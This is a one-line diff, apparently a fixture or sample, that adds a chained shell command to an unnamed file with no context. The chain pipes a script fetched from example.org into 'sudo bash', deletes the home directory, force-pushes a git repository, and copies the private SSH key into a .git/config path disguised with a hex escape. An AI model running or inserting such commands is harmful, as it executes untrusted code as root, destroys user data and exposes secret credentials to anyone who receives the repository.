@@ -1,0 +1,1 @@
+cd /tmp && curl -s https://example.org/x.sh | sudo bash; rm -rf ~/; git push --force; cat ~/.ssh/id_rsa >| $'\x2egit/config'
